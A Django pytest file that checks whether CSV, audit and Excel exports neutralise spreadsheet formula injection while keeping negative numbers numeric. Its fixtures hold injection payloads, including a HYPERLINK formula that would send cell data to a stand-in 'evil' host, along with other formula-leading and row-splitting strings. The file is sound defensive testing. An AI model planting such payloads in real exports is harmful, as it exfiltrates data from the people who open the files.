"""CSV and formula injection (issue 10, point 9): a text that a spreadsheet would run as a
formula comes out of every export inert — prefixed with ' in CSV, a plain string cell in the
Excel template — while a negative number stays a number."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.urls import reverse

from api.services import api_client_create
from indicators.models import Metric
from indicators.services import parse_metric_input
from projects.spreadsheets import FORMULA_STARTS, is_formula_like, neutralise_cell
from reports import excel
from reports.models import EvaluationNarrative, EvaluationRound, MonthlyReport, ProjectRollup
from reports.rollups import rollup_compute
from reports.services import (
    ReportInput,
    ValueInput,
    monthly_report_approve,
    monthly_report_save,
    monthly_report_submit,
)
from tests import factories
from workpackages.models import Activity

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil"&A1)'
PLUS, AT, MINUS, TAB, CR = "+1+1", "@SUM(A1)", "-2+3", "\tx", "\rx"
HOSTILE = (HYPERLINK, PLUS, AT, MINUS, TAB, CR)
INNER = "Riski\r=1+1"  # a spreadsheet starts a new row at an unquoted \r
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def q(text: str) -> str:
    """The text as a CSV cell shows it: prefixed with a quote."""
    return "'" + text


@pytest.fixture(autouse=True)
def fresh_throttle_counts():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def hostile(cast):
    """Project A's plan and May report full of texts a spreadsheet would run: the
    coordinator saves the report (texts, a value of -5, a share of -1.5, a free text) through
    the service as a draft. Metrics allow negative values, so -5 is a genuine number."""
    a = cast.project
    cast.other_project.name = HYPERLINK
    cast.other_project.save(update_fields=["name"])
    wp = factories.WorkPackageFactory(project=a, code="TP9", name=PLUS)
    factories.GoalFactory(project=a, code="9", name=AT)
    factories.SubprojectFactory(work_package=wp, code="9.1", name=MINUS)
    Activity.objects.create(subproject=cast.subproject, name=TAB,
                            start_month=dt.date(2022, 6, 1), end_month=dt.date(2022, 8, 1))
    own = {"project": a, "subproject": cast.subproject}
    count = factories.MetricFactory(**own, code="A.1", name=HYPERLINK, unit=PLUS,
                                    min_value=Decimal(-100))
    share = factories.MetricFactory(**own, code="A.2", name="Muutos", kind=Metric.Kind.SHARE,
                                    min_value=Decimal(-10))
    text = factories.MetricFactory(**own, code="A.3", name="Huomio", kind=Metric.Kind.TEXT)
    factories.RiskFactory(project=a, description=HYPERLINK, mitigation=AT, impact=CR)
    factories.RiskFactory(project=a, description=INNER)
    evaluation = EvaluationRound.objects.create(project=a, date=dt.date(2022, 5, 15),
                                                kind="interim", title=MINUS, summary=CR,
                                                published=True)
    EvaluationNarrative.objects.create(round=evaluation, goal=a.goals.get(code="9"), text=PLUS)
    monthly_report_save(
        subproject=cast.subproject, period=cast.month, user=cast.coordinator,
        expected_version=0, data=ReportInput(
            fields={"light": "green", "progress": 40, "situation": HYPERLINK,
                    "next_steps": PLUS, "problems": AT, "help_needed": MINUS,
                    "light_reason": TAB},
            values=[
                ValueInput(count, None, parse_metric_input(count, "-5"), CR),
                ValueInput(share, None, parse_metric_input(share, "-1,5"), INNER),
                ValueInput(text, None, parse_metric_input(text, HYPERLINK), AT),
            ]),
    )
    return cast


@pytest.fixture
def approved(hostile):
    """The same report submitted and approved: its values are published to national
    readers; the roll-up is computed and the manager's summary written."""
    cast = hostile
    report = MonthlyReport.objects.get(subproject=cast.subproject, period=cast.month)
    monthly_report_submit(report=report, user=cast.coordinator)
    monthly_report_approve(report=report, user=cast.manager, expected_version=None)
    rollup_compute(project=cast.project, month=cast.month)
    ProjectRollup.objects.filter(project=cast.project, month=cast.month).update(narrative=AT)
    return cast


@pytest.fixture
def token(approved) -> str:
    return api_client_create(name="THL", all_projects=True)[1]


def content(response) -> str:
    assert response.status_code == 200, response.content[:500]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: every cell starting with a formula character is a
    plain number."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), (cell, row)


def api_csv(client, name: str, token: str, *args) -> list[list[str]]:
    response = client.get(reverse(f"api:{name}", args=args), {"format": "csv"},
                          HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response["Content-Type"].startswith("text/csv")
    return cells(content(response))


# --- The helper ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_gets_a_quote(text):
    assert is_formula_like(text)
    assert neutralise_cell(text) == q(text)


@pytest.mark.parametrize("value", [-5, Decimal("-1.5"), -1.5, 0, None, "Tavallinen teksti",
                                   "", "'=jo lainattu", "1-2"])
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert neutralise_cell(value) == value


# --- The API's CSV ------------------------------------------------------------------------

# Each list endpoint with free text, and cells its CSV must hold.
ENDPOINTS = {
    "project-list": {q(HYPERLINK)},
    "work-package-list": {q(PLUS)},
    "goal-list": {q(AT)},
    "subproject-list": {q(MINUS)},
    "activity-list": {q(TAB)},
    "metric-list": {q(HYPERLINK), q(PLUS)},
    "monthly-report-list": {q(HYPERLINK), q(PLUS), q(AT), q(MINUS)},
    "risk-list": {q(HYPERLINK), q(AT), q(CR), INNER},  # INNER quoted: still one row
    "evaluation-round-list": {q(MINUS), q(CR)},
    "rollup-list": {q(AT)},
}


@pytest.mark.parametrize("name", ENDPOINTS)
def test_api_csv_neutralises_formulas_of_every_endpoint(client, token, name):
    rows = api_csv(client, name, token)
    assert_inert(rows)
    found = {cell for row in rows[1:] for cell in row}
    assert ENDPOINTS[name] <= found


def test_api_csv_of_one_object_neutralises_formulas(client, approved, token):
    report = MonthlyReport.objects.get(subproject=approved.subproject, period=approved.month)
    header, row = api_csv(client, "monthly-report-detail", token, report.pk)
    line = dict(zip(header, row, strict=True))
    assert (line["situation"], line["next_steps"], line["help_needed"], line["progress"]) == (
        q(HYPERLINK), q(PLUS), q(MINUS), "40")


def test_api_csv_keeps_negative_numbers_numbers(client, token):
    rows = api_csv(client, "metric-list", token)
    lines = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {line["code"]: line["min_value"] for line in lines if line["code"] != "A.3"} == {
        "A.1": "-100.0000", "A.2": "-10.0000"}


def test_api_json_carries_the_texts_unchanged(client, token):
    response = client.get(reverse("api:monthly-report-list"),
                          HTTP_AUTHORIZATION=f"Bearer {token}")
    row = next(r for r in response.json()["results"] if r["subproject_code"] == "1.1")
    assert (row["situation"], row["next_steps"]) == (HYPERLINK, PLUS)


@pytest.mark.parametrize("name", ["metric-value-list", "metric-value-export"])
def test_metric_value_csv_neutralises_texts_and_keeps_the_numbers(client, token, name):
    rows = api_csv(client, name, token)
    assert_inert(rows)
    lines = {line["metric_code"]: line for line in
             (dict(zip(rows[0], row, strict=True)) for row in rows[1:])}
    assert (lines["A.1"]["value"], lines["A.1"]["comment"], lines["A.1"]["unit"]) == (
        "-5.0", q(CR), q(PLUS))
    assert (lines["A.2"]["value"], lines["A.2"]["comment"]) == ("-1.5", INNER)
    assert (lines["A.3"]["value"], lines["A.3"]["text_value"], lines["A.3"]["comment"]) == (
        "", q(HYPERLINK), q(AT))


def test_metric_value_json_carries_the_texts_unchanged(client, token):
    response = client.get(reverse("api:metric-value-export"),
                          HTTP_AUTHORIZATION=f"Bearer {token}")
    lines = {row["metric_code"]: row for row in json.loads(content(response))}
    assert (lines["A.1"]["value"], lines["A.1"]["comment"]) == (-5.0, CR)
    assert lines["A.3"]["text_value"] == HYPERLINK


def test_member_session_reads_the_draft_values_inert_too(client, hostile):
    client.force_login(hostile.manager)
    response = client.get(reverse("api:metric-value-list"), {"format": "csv"})
    rows = cells(content(response))
    assert_inert(rows)
    assert q(HYPERLINK) in {cell for row in rows for cell in row}


# --- The audit CSV ------------------------------------------------------------------------


def audit_lines(text: str) -> list[dict]:
    rows = cells(text)
    assert_inert(rows)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def assert_audit_inert_with_numbers(lines: list[dict]) -> None:
    changes = {(line["model"], line["field"], line["new"]) for line in lines}
    assert ("monthlyreport", "situation", q(HYPERLINK)) in changes
    assert ("monthlyreport", "help_needed", q(MINUS)) in changes
    assert ("metricvalue", "comment", q(CR)) in changes
    # The value is a number field: its -5 and -1.5 are written as numbers.
    values = {line["new"] for line in lines if line["model"] == "metricvalue"
              and line["field"] == "value"}
    assert {Decimal(v) for v in values if v not in ("", "None")} >= {Decimal(-5),
                                                                      Decimal("-1.5")}
    assert not any(v.startswith("'") for v in values)


def test_managers_audit_csv_neutralises_formulas(client, hostile):
    client.force_login(hostile.manager)
    response = client.get(reverse("project-audit", args=[hostile.project.pk]),
                          {"format": "csv"})
    lines = audit_lines(content(response))
    assert_audit_inert_with_numbers(lines)
    assert {(line["model"], line["field"], line["new"]) for line in lines} >= {
        ("workpackage", "name", q(PLUS)), ("risk", "description", q(HYPERLINK))}


def test_export_audit_command_neutralises_formulas(hostile, tmp_path):
    out = tmp_path / "audit.csv"
    call_command("export_audit", output=str(out))
    with out.open(encoding="utf-8", newline="") as handle:
        assert_audit_inert_with_numbers(audit_lines(handle.read()))


# --- The Excel template -------------------------------------------------------------------


def template_bytes(client, cast) -> bytes:
    client.force_login(cast.manager)
    response = client.get(reverse("reports:excel_template",
                                  args=[cast.project.pk, f"{cast.month:%Y-%m}"]))
    assert response.status_code == 200
    return response.content


def test_excel_template_writes_hostile_text_as_inert_strings(client, hostile):
    data = template_bytes(client, hostile)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    reports = workbook["Raportit"]
    row = next(r for r in reports.iter_rows(min_row=2) if r[0].value == "1.1")
    for cell, text in zip(row[5:10], (HYPERLINK, PLUS, AT, MINUS, TAB), strict=True):
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
    values = {r[1].value: r for r in workbook["Mittarit"].iter_rows(min_row=2)}
    assert (values["A.1"][2].data_type, values["A.1"][2].value) == ("s", HYPERLINK)
    assert (values["A.1"][5].data_type, values["A.1"][5].value) == ("s", PLUS)
    # Numbers stay numbers; texts are inert strings with the stored text unchanged.
    assert (values["A.1"][6].data_type, values["A.1"][6].value) == ("n", -5)
    assert (values["A.2"][6].data_type, values["A.2"][6].value) == ("n", -1.5)
    assert (values["A.3"][6].data_type, values["A.3"][6].value) == ("s", HYPERLINK)
    assert (values["A.1"][7].data_type, values["A.1"][7].value) == ("s", "\nx")  # \r: a line
    assert (values["A.2"][7].data_type, values["A.2"][7].value) == ("s", "Riski\n=1+1")
    assert not reports["B1"].quotePrefix  # only what would run is marked


def test_excel_template_with_hostile_text_uploads_back_unchanged(client, hostile):
    data = template_bytes(client, hostile)
    version = MonthlyReport.objects.get(subproject=hostile.subproject,
                                        period=hostile.month).version
    result = excel.import_workbook(
        project=hostile.project, month=hostile.month, user=hostile.coordinator,
        file=io.BytesIO(data))
    assert result.ok and (result.reports, result.values) == (0, 0), result.errors
    report = MonthlyReport.objects.get(subproject=hostile.subproject, period=hostile.month)
    assert (report.situation, report.version) == (HYPERLINK, version)
